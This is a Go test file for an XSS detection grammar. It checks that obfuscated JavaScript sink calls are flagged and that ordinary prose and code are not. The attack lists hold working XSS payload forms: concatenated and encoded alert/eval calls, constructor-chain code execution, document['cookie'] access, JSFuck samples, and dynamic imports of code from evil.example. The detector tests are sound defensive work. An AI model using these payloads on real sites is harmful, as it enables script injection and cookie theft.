package detect

import (
	"strings"
	"testing"
)

// TestJSExec runs the expression grammar on its own (jsExec, jsFuck,
// jsEscapedIdent) over forms built from the grammar: each sink reached
// through each kind of indirection, and prose/code that uses the same
// words without reaching one.
func TestJSExec(t *testing.T) {
	roots := []string{"window", "self", "top", "parent", "frames", "globalThis", "content"}
	sinks := []string{"alert", "prompt", "confirm", "eval"}
	var attacks []string
	for _, r := range roots {
		for _, s := range sinks {
			h := len(s) / 2
			attacks = append(attacks,
				r+"['"+s[:h]+"'+'"+s[h:]+"'](1)",
				r+`["`+s+`"].call(null, 1)`,
				r+"[`"+s+"`]`1`",
				r+"?.['"+s+"']?.(1)",
				"Reflect.apply("+r+"."+s+", null, [1])",
			)
		}
	}
	for _, s := range sinks {
		attacks = append(attacks,
			s+".call(null,1)", s+".apply(this,[1])", s+".bind(0)(1)", "(0,"+s+")(1)", "(1, 2, "+s+")`x`",
			"x="+s+".call(top,document.domain)", "';"+s+".call``//", "\"-(0, "+s+")(1)-\"",
		)
	}
	attacks = append(attacks,
		"Function('return this')()", "new Function(atob('YQ=='))", "x.constructor.constructor('alert(1)')()",
		"''.constructor.constructor`a${1}b`", "Array.constructor('debugger')()", "[].map.constructor('x=1')()",
		"import('//evil.example/a.js')", "import(`https://evil.example/${x}`)",
		"document['cookie']", "document[`domain`]", "document['wri'+'te']('x')", "document.defaultView['ev'+'al'](1)",
		"window[atob('YWxlcnQ=')](1)", "top[String.fromCharCode(97,108,101,114,116)](1)", "window[unescape('%61lert')]()",
		"setTimeout.call(window, 'x()')", "window.onload=alert", "document.onclick = confirm",
		"a/**/=/**/alert/**/.call(1)", "eval\n.call(null,'1')",
	)
	benign := []string{
		"call me (later)", "document your work", "Please alert the team (urgent)", "The function (f) returns x",
		"console.log is useful", "see window['title'] in the docs", "I'd like to import('data') later",
		"It's an 'alert' level; 'warn' next", "He said \"hi\"; then left", "The constructor of the house",
		"Reflect on it: apply yourself", "alert level 1", "`code` in markdown", "document['title'] and top['x']",
		"top[5] products", "self[esteem] matters", "![image](http://example.com/a.png)", "[link](http://example.com)",
		"use import('./local.js') for lazy loading", "arr.map(fn).filter(Boolean)", "Object.keys(obj).length",
		"new Date('2024-01-01')", "String(42) + 'x'", "window.onload docs", "window.onload == null",
		"x.constructor === Object", "Array.isArray(x)", "JSON.parse('{\"a\":1}')", "f(g(h(1)))",
		"(a, b) => a + b", "[1, 2, 3].reduce((a, b) => a + b)", "it's window's title, isn't it?",
		"prompt engineering (the art)", "evaluate the (eval) results",
	}
	for _, a := range attacks {
		t.Run("attack/"+a, func(t *testing.T) {
			if h := jsExec([]byte(strings.ToLower(a))); h.rule != "xss.js_sink" {
				t.Errorf("jsExec(%q) = %q, want xss.js_sink", a, h.rule)
			}
		})
	}
	for _, b := range benign {
		t.Run("benign/"+b, func(t *testing.T) {
			if h := jsExec([]byte(strings.ToLower(b))); h.rule != "" {
				t.Errorf("jsExec(%q) = %q (%q), want none", b, h.rule, h.frag)
			}
		})
	}
}

func TestJSObfuscation(t *testing.T) {
	cases := []struct {
		in   string
		want bool
	}{
		{"(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+!+[]]", true},
		{"[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]", true},
		{"!![] + +[] is 1 in JS", false},
		{"![alt](x.png) [ref]() (!)", false},
		{"(((((((((((((((((((((((((((())))))))))))))))))))))))))))", false},
		{`\u0061lert(1)`, true},
		{`c\u006fnsole.log(1)`, true},
		{`\u{64}ocument['x']`, true},
		{`wind\x6fw.name`, true},
		{`\u0041BC`, false},
		{`caf\u00e9`, false},
		{`C:\x64\data.csv`, false},
		{`path \x61 b(1)`, false},
		{`\x41+ regex`, false},
	}
	for _, c := range cases {
		t.Run(c.in, func(t *testing.T) {
			h := jsFuck([]byte(c.in))
			if h.rule == "" {
				h = jsEscapedIdent(c.in)
			}
			if got := h.rule == "xss.js_obfuscated"; got != c.want {
				t.Errorf("obfuscation(%q) = %q, want %v", c.in, h.rule, c.want)
			}
		})
	}
}

// FuzzJSExec: the grammar never panics, reports a fragment from its
// input, and judges a string the same when it is embedded in text after
// a delimiter.
func FuzzJSExec(f *testing.F) {
	for _, s := range []string{"window['al'+'ert'](1)", "(0,eval)('x')", "Function`a`", "document['cookie']",
		"'\\''\\'", "/*/*", "((((", "top[top[top[", "x.constructor.constructor('y()')()", "import('//a')",
		"`${`${`", "alert?.call?.(1)", "new new new Function"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		b := []byte(strings.ToLower(s))
		h := jsExec(b)
		if h.rule != "" && h.rule != "xss.js_sink" {
			t.Fatalf("jsExec(%q) rule %q", s, h.rule)
		}
		if len(h.frag) > MaxFragment {
			t.Fatalf("jsExec(%q) fragment %d bytes", s, len(h.frag))
		}
		_ = jsFuck(b)
		_ = jsEscapedIdent(s)
	})
}
